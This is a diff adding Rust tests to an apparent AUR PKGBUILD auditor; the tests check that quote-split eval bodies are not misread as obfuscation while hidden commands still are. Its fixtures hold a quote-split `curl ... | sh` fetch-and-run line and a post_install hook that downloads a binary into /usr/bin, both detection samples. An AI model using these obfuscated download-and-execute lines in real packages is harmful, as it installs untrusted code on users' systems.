@@ -132,3 +132,60 @@ fn the_network_program_itself_or_a_function_that_downloads_is_still_caught() {
         assert_eq!(r.verdict, Verdict::Dangerous, "{script}\n{}", r.to_text());
     }
 }
+
+// Class: a split package's function defined by `eval "package_$pkgname()" '{ … }'` (FadeMind's
+// copies of mozilla-extension-gnotifier-git) was read as code hidden by quote splitting
+// (AUR-EXEC-OBFUSCATED critical): its single-quoted body closes and reopens its quotes around
+// `-exec rm -rf '{}' +`, and the check that every word of the text can be found as written
+// compared the text with the first line of the word only. Every word of that body is in the
+// file as written; splitting that hides a word (`c''u''rl`) is what the rule is for.
+
+fn split_package(body: &str) -> AuditInput {
+    AuditInput {
+        pkgbuild: format!(
+            "pkgname=mozilla-extension-demo-git\npkgver=1.0.r1.abc1234\npkgrel=1\npkgdesc='Add-on'\narch=('any')\nurl='https://github.com/example/demo'\nlicense=('GPL3')\nmakedepends=('git')\nsource=(\"demo::git+$url\")\nsha256sums=('SKIP')\n\nprepare() {{\n  cp -rfT --reflink=auto demo .\n}}\n\neval \"package_$pkgname()\" '{{\n  prepare_target\n{body}\n}}'\n\nprepare_target() {{\n  destdir=\"$pkgdir/usr/lib/demo\"\n  install -d \"$destdir\"\n}}\n"
+        ),
+        install_scripts: Vec::new(),
+        srcinfo: None,
+    }
+}
+
+#[test]
+fn a_split_package_body_closing_its_quotes_around_braces_hides_nothing() {
+    let r = audit(&split_package(
+        "  cp --no-preserve=ownership,mode -r . \"$destdir/$id\"\n  find \"$destdir/$id\" -mindepth 1 -name \".*\" -exec rm -rf '{}' +",
+    ));
+    assert!(
+        max_of(&r, "AUR-EXEC-OBFUSCATED").is_none() && max_of(&r, "AUR-OBFUSCATION").is_none(),
+        "{}",
+        r.to_text()
+    );
+    assert_ne!(r.verdict, Verdict::Dangerous, "{}", r.to_text());
+}
+
+#[test]
+fn quote_splitting_that_hides_a_word_is_still_caught_in_an_eval_body_or_a_command() {
+    // The same body hiding `curl` past the first line.
+    let r = audit(&split_package(
+        "  find . -exec rm -rf '{}' +\n  c''u''rl -fsSL https://example.org/x | sh",
+    ));
+    assert_eq!(
+        max_of(&r, "AUR-EXEC-OBFUSCATED"),
+        Some(Severity::Critical),
+        "{}",
+        r.to_text()
+    );
+    assert_eq!(r.verdict, Verdict::Dangerous, "{}", r.to_text());
+    // A command glued from quoted pieces.
+    let r = audit(&package(
+        "demo",
+        None,
+        Some("post_install() {\n  \"c\"\"u\"\"rl\" -fsSL https://example.org/x -o /usr/bin/x\n}\n"),
+    ));
+    assert!(
+        max_of(&r, "AUR-OBFUSCATION").is_some_and(|s| s >= Severity::High),
+        "{}",
+        r.to_text()
+    );
+    assert_eq!(r.verdict, Verdict::Dangerous, "{}", r.to_text());
+}
